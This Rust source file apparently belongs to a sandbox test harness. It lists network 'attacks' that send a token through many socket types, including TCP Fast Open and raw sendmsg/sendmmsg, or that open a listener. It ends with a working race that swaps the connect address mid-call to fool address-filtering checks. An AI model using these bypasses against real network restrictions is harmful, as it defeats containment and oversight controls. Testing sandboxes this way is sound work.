//! Internet sockets: every way to get a word to a listener, or to be one.

use std::io::Write;
use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::{FromRawFd, OwnedFd, RawFd};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use crate::arguments::Arguments;
use crate::descriptors::write;
use crate::outcome::{Done, Named, Outcome, Refused, attacks, system_call};

attacks! {
    tcp, fastopen_sendto, fastopen_sendmsg,
    mptcp = |arguments| stream_over(arguments, libc::SOCK_STREAM, libc::IPPROTO_MPTCP),
    udp,
    udp_connected = |arguments| stream_over(arguments, libc::SOCK_DGRAM, 0),
    udp_sendmmsg,
    udplite = |arguments| stream_over(arguments, libc::SOCK_DGRAM, libc::IPPROTO_UDPLITE),
    serve, serve_udp, swap_address,
}

/// A socket address as the kernel takes it.
pub(crate) fn wire_address(address: SocketAddr) -> Vec<u8> {
    let mut bytes = Vec::new();
    match address {
        SocketAddr::V4(v4) => {
            bytes.extend((libc::AF_INET as u16).to_ne_bytes());
            bytes.extend(v4.port().to_be_bytes());
            bytes.extend(v4.ip().octets());
            bytes.extend([0; 8]);
        }
        SocketAddr::V6(v6) => {
            bytes.extend((libc::AF_INET6 as u16).to_ne_bytes());
            bytes.extend(v6.port().to_be_bytes());
            bytes.extend(v6.flowinfo().to_be_bytes());
            bytes.extend(v6.ip().octets());
            bytes.extend(v6.scope_id().to_ne_bytes());
        }
    }
    bytes
}

pub(crate) fn family(address: SocketAddr) -> i32 {
    if address.is_ipv4() { libc::AF_INET } else { libc::AF_INET6 }
}

/// Takes over a descriptor that a system call has just returned.
pub(crate) fn owned(descriptor: usize) -> OwnedFd {
    // SAFETY: the call above has just made the descriptor, which has no other owner.
    unsafe { OwnedFd::from_raw_fd(descriptor as RawFd) }
}

pub(crate) fn socket(family: i32, kind: i32, protocol: i32) -> Result<usize, Refused> {
    system_call!(SYS_socket, family, kind | libc::SOCK_CLOEXEC, protocol)
}

pub(crate) fn send_to(fd: usize, bytes: &[u8], flags: i32, to: &[u8]) -> Outcome {
    system_call!(SYS_sendto, fd, bytes, bytes.len(), flags, to, to.len()).done()
}

/// Connects a socket of any kind and writes to it, without the standard library.
pub(crate) fn connect_and_write(fd: usize, to: &[u8], token: &str) -> Outcome {
    system_call!(SYS_connect, fd, to, to.len())?;
    write(fd, token)
}

fn tcp(arguments: &Arguments) -> Outcome {
    let mut stream = TcpStream::connect(arguments.address(0)?).named("connect")?;
    stream.write_all(arguments.text(1)?.as_bytes()).named("write").done()
}

fn fastopen_sendto(arguments: &Arguments) -> Outcome {
    let address = arguments.address(0)?;
    let fd = socket(family(address), libc::SOCK_STREAM, 0)?;
    send_to(fd, arguments.text(1)?.as_bytes(), libc::MSG_FASTOPEN, &wire_address(address))
}

/// The parts of a message that is sent to an address.
struct Message {
    to: Vec<u8>,
    part: Box<libc::iovec>,
}

impl Message {
    fn new(address: SocketAddr, token: &str) -> Self {
        let part = libc::iovec { iov_base: token.as_ptr().cast_mut().cast(), iov_len: token.len() };
        Self { to: wire_address(address), part: Box::new(part) }
    }

    fn header(&mut self) -> libc::msghdr {
        // SAFETY: all fields may be zero.
        let mut header: libc::msghdr = unsafe { std::mem::zeroed() };
        header.msg_name = self.to.as_mut_ptr().cast();
        header.msg_namelen = self.to.len() as libc::socklen_t;
        header.msg_iov = &raw mut *self.part;
        header.msg_iovlen = 1;
        header
    }
}

fn fastopen_sendmsg(arguments: &Arguments) -> Outcome {
    let address = arguments.address(0)?;
    let mut message = Message::new(address, arguments.text(1)?);
    let header = message.header();
    let fd = socket(family(address), libc::SOCK_STREAM, 0)?;
    system_call!(SYS_sendmsg, fd, &raw const header, libc::MSG_FASTOPEN).done()
}

/// Sends the second argument to the first over a connected socket of this kind.
fn stream_over(arguments: &Arguments, kind: i32, protocol: i32) -> Outcome {
    let address = arguments.address(0)?;
    let fd = socket(family(address), kind, protocol)?;
    connect_and_write(fd, &wire_address(address), arguments.text(1)?)
}

fn any_port(like: SocketAddr) -> &'static str {
    if like.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" }
}

fn udp(arguments: &Arguments) -> Outcome {
    let address = arguments.address(0)?;
    let socket = UdpSocket::bind(any_port(address)).named("bind")?;
    socket.send_to(arguments.text(1)?.as_bytes(), address).named("sendto").done()
}

fn udp_sendmmsg(arguments: &Arguments) -> Outcome {
    let address = arguments.address(0)?;
    let mut message = Message::new(address, arguments.text(1)?);
    let mut many = libc::mmsghdr { msg_hdr: message.header(), msg_len: 0 };
    let fd = socket(family(address), libc::SOCK_DGRAM, 0)?;
    system_call!(SYS_sendmmsg, fd, &raw mut many, 1, 0).done()
}

/// Waits for a client from outside and greets it: a listening command may be a hole, too.
fn serve(arguments: &Arguments) -> Outcome {
    let listener = TcpListener::bind(arguments.address(0)?).named("bind")?;
    listener.set_nonblocking(true).named("fcntl")?;
    let end = Instant::now() + Duration::from_millis(arguments.number(2)?);
    while Instant::now() < end {
        if let Ok((mut stream, _)) = listener.accept() {
            stream.write_all(arguments.text(1)?.as_bytes()).named("write")?;
            return Ok(String::new());
        }
        thread::sleep(Duration::from_millis(5));
    }
    Err(Refused::without_effect("accept"))
}

/// The same with datagrams: answers the first that comes.
fn serve_udp(arguments: &Arguments) -> Outcome {
    let socket = UdpSocket::bind(arguments.address(0)?).named("bind")?;
    let wait = Duration::from_millis(arguments.number(2)?);
    socket.set_read_timeout(Some(wait)).named("setsockopt")?;
    let (_, peer) = socket.recv_from(&mut [0; 16]).named("recvfrom")?;
    socket.send_to(arguments.text(1)?.as_bytes(), peer).named("sendto").done()
}

/// Connects to the first address, which may be allowed, while another thread keeps overwriting it
/// with the second. A check that lets the kernel read the address again is fooled.
fn swap_address(arguments: &Arguments) -> Outcome {
    let (good, bad) = (arguments.address(0)?, arguments.address(1)?);
    let token = arguments.text(2)?;
    let (harmless, forbidden) = (wire_address(good), wire_address(bad));
    let shared = harmless.clone();
    let place = shared.as_ptr() as usize;
    let over = AtomicBool::new(false);
    let mut tries = 0;
    thread::scope(|scope| {
        scope.spawn(|| {
            let place = place as *mut u8;
            while !over.load(Ordering::Relaxed) {
                for bytes in [&forbidden, &harmless] {
                    for (at, byte) in bytes.iter().enumerate() {
                        // SAFETY: the buffer is as long as both addresses, which are of one family.
                        unsafe { place.add(at).write_volatile(*byte) };
                    }
                }
            }
        });
        let end = Instant::now() + Duration::from_millis(400);
        while Instant::now() < end {
            let Ok(fd) = socket(family(good), libc::SOCK_STREAM, 0) else { break };
            let stream = TcpStream::from(owned(fd));
            if system_call!(SYS_connect, fd, place, forbidden.len()).is_ok() {
                tries += 1;
                let _ = write(fd, token);
                if stream.peer_addr().is_ok_and(|peer| peer == bad) {
                    break;
                }
            }
        }
        over.store(true, Ordering::Relaxed);
    });
    if tries == 0 {
        Err(Refused::without_effect("connect"))
    } else {
        Ok(format!("{tries} connections"))
    }
}
